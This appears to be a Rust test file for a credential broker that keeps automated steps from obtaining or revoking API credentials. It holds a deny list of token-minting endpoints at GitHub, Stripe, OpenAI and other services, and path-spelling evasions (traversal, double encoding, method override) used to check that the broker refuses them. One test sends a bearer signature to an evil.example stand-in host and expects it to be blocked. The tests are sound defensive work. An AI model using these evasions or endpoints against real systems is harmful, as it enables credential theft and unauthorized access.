//! E1 to E3: what a step could win by asking the service for it.

use http::HeaderMap;
use keyhole_host_api::broker::{Decision, Egress, Limits, RunBooks, SignError};
use keyhole_tests::host::{Host, audit_text, member, scope, send};
use keyhole_tests::server::{Authority, Server, answer};

use crate::rig::*;

/// An app of the catalog, an account's fields, its host, and paths that give out or end credentials.
type Denied =
    (&'static str, &'static [(&'static str, &'static str)], &'static str, &'static [(&'static str, &'static str)]);

const TWILIO_SID: &str = "AC0123456789abcdef0123456789abcdef";

const DENIED: [Denied; 12] = [
    (
        "github",
        &[("oauth_access_token", "ghp_0123456789abcdefghijABCDEFGHIJ012345")],
        "api.github.com",
        &[
            ("POST", "/app/installations/1/access_tokens"),
            ("POST", "/applications/abc/token"),
            ("DELETE", "/applications/abc/grant"),
            ("POST", "/credentials/revoke"),
            ("POST", "/user/keys"),
            ("POST", "/repos/o/r/keys"),
            ("POST", "/repos/o/r/actions/runners/registration-token"),
            ("POST", "/orgs/o/actions/runners/generate-jitconfig"),
        ],
    ),
    (
        "slack",
        &[("oauth_access_token", "xoxb-0123456789-abcdefghij")],
        "slack.com",
        &[
            ("POST", "/api/auth.revoke"),
            ("POST", "/api/oauth.v2.access"),
            ("POST", "/api/oauth.v2.exchange"),
            ("POST", "/api/tooling.tokens.rotate"),
            ("POST", "/api/openid.connect.token"),
        ],
    ),
    (
        "stripe",
        &[("api_key", "sk_live_0123456789abcdefghij")],
        "api.stripe.com",
        &[
            ("POST", "/v1/ephemeral_keys"),
            ("POST", "/v1/api_keys"),
            ("POST", "/v1/account_sessions"),
            ("POST", "/v1/terminal/connection_tokens"),
            ("POST", "/v1/accounts/acct_1/login_links"),
            ("POST", "/oauth/token"),
        ],
    ),
    (
        "sendgrid",
        &[("api_key", "SG.0123456789abcdefghijkl.0123456789abcdefghijklmnopqrstuvwxyz0123456")],
        "api.sendgrid.com",
        &[("POST", "/v3/api_keys"), ("GET", "/v3/api_keys/abc"), ("POST", "/v3/teammates"), ("POST", "/v3/subusers")],
    ),
    (
        "openai",
        &[("api_key", "sk-0123456789abcdef0123456789")],
        "api.openai.com",
        &[
            ("POST", "/v1/organization/admin_api_keys"),
            ("POST", "/v1/organization/projects/p/service_accounts"),
            ("POST", "/v1/realtime/client_secrets"),
            ("POST", "/v1/realtime/sessions"),
        ],
    ),
    (
        "anthropic",
        &[("api_key", "sk-ant-api03-0123456789abcdefghij")],
        "api.anthropic.com",
        &[
            ("GET", "/v1/organizations/api_keys"),
            ("POST", "/v1/oauth/token"),
            ("POST", "/api/oauth/claude_cli/create_api_key"),
        ],
    ),
    (
        "mailgun",
        &[("api_key", "0123456789abcdef0123456789abcdef-01234567-01234567")],
        "api.mailgun.net",
        &[("POST", "/v1/keys"), ("POST", "/v3/domains/d/credentials"), ("GET", "/v5/accounts/http_signing_key")],
    ),
    (
        "twilio",
        &[("account_sid", TWILIO_SID), ("auth_token", "0123456789abcdef0123456789abcdef")],
        "api.twilio.com",
        &[
            ("POST", "/2010-04-01/Accounts.json"),
            ("GET", "/2010-04-01/Accounts/AC0.json"),
            ("POST", "/2010-04-01/Accounts/AC0/Keys.json"),
            ("POST", "/2010-04-01/Accounts/AC0/Tokens.json"),
        ],
    ),
    (
        "zendesk",
        &[("subdomain", "acme"), ("email", "a@acme.example"), ("api_token", "Kq8vX2mB7tR4wZ9n")],
        "acme.zendesk.com",
        &[
            ("POST", "/oauth/tokens"),
            ("POST", "/api/v2/oauth/tokens.json"),
            ("POST", "/api/v2/api_tokens.json"),
            ("GET", "/api/v2/users/me/session"),
            ("POST", "/api/v2/users/1/password.json"),
        ],
    ),
    (
        "notion",
        &[("oauth_access_token", "ntn_0123456789abcdefghij")],
        "api.notion.com",
        &[("POST", "/v1/oauth/token"), ("POST", "/v1/oauth/introspect"), ("POST", "/v1/oauth/revoke")],
    ),
    // By its OAuth endpoints alone: no rule of the definition names them.
    (
        "notes",
        &[("oauth_access_token", "notes-0123456789abcdefghij")],
        "auth.acme.example",
        &[("POST", "/token"), ("POST", "/token/revocation"), ("POST", "/device/auth")],
    ),
    ("acme", &[("api_key", KEY)], HOST, &[("POST", "/v1/keys"), ("DELETE", "/v1/keys/1")]),
];

/// The path as servers may read it to be the same.
fn spellings(path: &str) -> Vec<String> {
    let (first, rest) = path[1..].split_once('/').unwrap_or((&path[1..], ""));
    let rest = if rest.is_empty() { String::new() } else { format!("/{rest}") };
    let letter = path.rfind(|letter: char| letter.is_ascii_alphabetic()).expect("a letter");
    let encoded = format!("%{:02x}", path.as_bytes()[letter]);
    let (before, after) = (&path[..letter], &path[letter + 1..]);
    vec![
        path.to_owned(),
        path.to_uppercase(),
        format!("{path}?x=/&y"),
        format!("{path}/"),
        format!("{path};v=1"),
        format!("/{path}"),
        format!("/x/..{path}"),
        format!("/x/%2e%2e{path}"),
        format!("/x%2f..{path}"),
        format!("/x/%252e%252e{path}"),
        format!("/.{path}"),
        format!("/{first}//{rest}"),
        format!("/{first}/./{rest}"),
        format!("{before}{encoded}{after}"),
        format!("{before}{}{after}", encoded.replace('%', "%25")),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn e1_what_gives_out_or_ends_credentials_is_refused_however_it_is_spelled() {
    let (host, authority) = (Host::new().await, Authority::default());
    let names: Vec<&str> = DENIED.iter().map(|(.., host, _)| *host).collect();
    let service = Server::http(&authority, &names, |_| answer(200, "text/plain", "minted"));
    let servers: Vec<_> = names.iter().map(|name| (*name, &service)).collect();
    let broker = host.broker(&authority, &servers, Egress::default());
    let mut refusals = 0;
    for (app, fields, name, denied) in DENIED {
        let account = host.connect("alice", app, fields).await;
        let mut one = scope("alice", &[(app, app, Some(&account))]);
        one.books = RunBooks::new(Limits { requests: 10_000, ..Limits::default() });
        let session = broker.session(one);
        let injected = session.account(app).await.unwrap_or_else(|error| panic!("{app}: {error}"));
        let headers: Vec<(&str, &str)> =
            injected.headers.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
        for (method, path) in denied {
            for path in spellings(path) {
                let url = format!("https://{name}{path}");
                let outcome = send(&session, request(method, &url, &headers, "")).await;
                let reason = refused(&format!("{app}: {method} {url}"), outcome);
                assert!(reason.contains("does not allow steps to call"), "{app}: {method} {path}: {reason}");
                refusals += 1;
            }
            // A rule speaks of the method that counts.
            let mut overridden = headers.clone();
            overridden.push(("x-http-method-override", method));
            let url = format!("https://{name}/harmless");
            refused(&url, send(&session, request("POST", &url, &overridden, "")).await);
            refusals += 1;
        }
    }
    assert_eq!(service.accepted(), 0);
    assert!(!audit_text(broker.audit()).await.contains("0123456789abcdefghij"));
    Scene::all_refused(&broker.audit().uses(None).await.unwrap(), refusals);
}

#[tokio::test(flavor = "multi_thread")]
async fn e2_the_signer_signs_for_the_listed_purpose_and_hands_out_no_credential() {
    let scene = Scene::new().await;
    let webhook = "whsec-5Bn8Kd2Xr7";
    let account = scene.host.connect("alice", "acme", &[("api_key", KEY), ("webhook_secret", webhook)]).await;
    scene.host.accounts.grant(&member("alice"), &account, &member("bob")).await.unwrap();
    let session = scene.broker.session(scope("bob", &[("acme", "acme", Some(&account))]));
    let injected = session.account("acme").await.unwrap_or_else(|error| panic!("{error}"));
    // The key that signs has no placeholder: it goes nowhere.
    assert!(injected.auth.iter().all(|field| field.name != "webhook_secret"));

    let signature = session.sign_hmac("acme", "webhook", b"message").await.unwrap_or_else(|error| panic!("{error}"));
    assert!(signature.len() == 64 && signature.bytes().all(|byte| byte.is_ascii_hexdigit()));
    for purpose in ["", "Webhook", "webhook ", "webhook_secret", "api_key", "jwt", "assertion", "sigv4", "../webhook"] {
        let refused = session.sign_hmac("acme", purpose, b"message").await;
        let Some(SignError::NotAllowed { listed, .. }) = refused.err() else { panic!("{purpose:?}") };
        assert_eq!(listed, "webhook");
    }
    assert!(matches!(session.sign_hmac("acme", "webhook", &vec![0; (1 << 20) + 1]).await, Err(SignError::TooLong(_))));
    // A placeholder is signed as the text that it is.
    let placeholder = injected.auth[0].value.clone();
    let of_placeholder = session.sign_hmac("acme", "webhook", placeholder.as_bytes()).await.unwrap_or_default();
    let of_key = session.sign_hmac("acme", "webhook", KEY.as_bytes()).await.unwrap_or_default();
    assert_ne!(of_placeholder, of_key);

    // A signature is no placeholder, so it opens no host; nor does the key leave with it.
    let bearer = format!("Bearer {signature}");
    refused(
        "elsewhere",
        send(&session, request("GET", "https://evil.example/", &[("authorization", &bearer)], "")).await,
    );
    assert_eq!(scene.evil.accepted(), 0);
    // The service that shows the signing key shows it to nobody.
    let echoed = request("POST", &format!("https://{HOST}/v1/echo"), &[], webhook);
    let echoed = seen(&send(&session, echoed).await.unwrap());
    assert!(echoed.contains("‹acme.webhook_secret›") && !echoed.contains(webhook), "{echoed}");

    // The grant is read at each signature.
    scene.host.accounts.revoke(&member("alice"), &account, &member("bob")).await.unwrap();
    assert!(matches!(session.sign_hmac("acme", "webhook", b"message").await, Err(SignError::Access(_))));
    assert!(scene.uses().await.iter().any(|used| used.decision == Decision::Refused));
}

/// What in an answer's headers tells of its body.
fn measures(headers: &HeaderMap) -> Vec<String> {
    let telling = ["content-length", "etag", "digest", "content-digest", "repr-digest", "content-md5", "trailer"];
    headers.keys().map(ToString::to_string).filter(|name| telling.contains(&name.as_str())).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn e3_nothing_in_an_answer_tells_by_how_much_it_was_rewritten() {
    let scene = Scene::at(|authority| {
        Server::http(authority, &[HOST], |got| {
            let body = match got.target.as_str() {
                "/without" => "nothing in here".to_owned(),
                "/long" => format!("{}{KEY}", "x".repeat(100_000)),
                "/long-without" => "x".repeat(100_000),
                _ => format!("<{KEY}>"),
            };
            let status = if got.target == "/unchanged" { 304 } else { 200 };
            let length = body.len().to_string();
            let mut answer = answer(status, "text/plain", if status == 304 { String::new() } else { body });
            let headers = answer.headers_mut();
            for (name, value) in [
                ("etag", "\"33-5f1e\""),
                ("digest", "sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE="),
                ("content-digest", "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:"),
                ("repr-digest", "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:"),
                ("content-md5", "Q2hlY2sgSW50ZWdyaXR5IQ=="),
                ("x-plain", "stays"),
            ] {
                headers.insert(name, value.parse().unwrap());
            }
            if got.method == "HEAD" {
                headers.insert("content-length", length.parse().unwrap());
            }
            answer
        })
    })
    .await;
    let run = scene.run().await;
    let auth = [("authorization", run.bearer.as_str())];
    for (method, path) in [
        ("GET", "/with"),
        ("HEAD", "/with"),
        ("HEAD", "/without"),
        ("GET", "/unchanged"),
        ("GET", "/long"),
        ("GET", "/long-without"),
    ] {
        let answer = run.send(request(method, &format!("https://{HOST}{path}"), &auth, "")).await.unwrap();
        assert_eq!(measures(&answer.headers), [""; 0], "{method} {path}");
        assert_eq!(answer.headers["x-plain"], "stays");
        assert!(!seen(&answer).contains(KEY));
    }
    // The placeholder that is put there has a length that says nothing of the key's.
    let answer = run.get(&format!("https://{HOST}/with")).await.unwrap();
    assert_eq!(answer.body.len(), run.placeholder.len() + 2);
    // What was not rewritten is what the server sent, with all that tells of it.
    let answer = run.get(&format!("https://{HOST}/without")).await.unwrap();
    assert_eq!((answer.body.as_slice(), measures(&answer.headers).len()), (b"nothing in here".as_slice(), 6));
    let uses = scene.uses().await;
    assert!(uses.len() == 8 && uses.iter().all(|used| used.decision == Decision::Allowed));
}
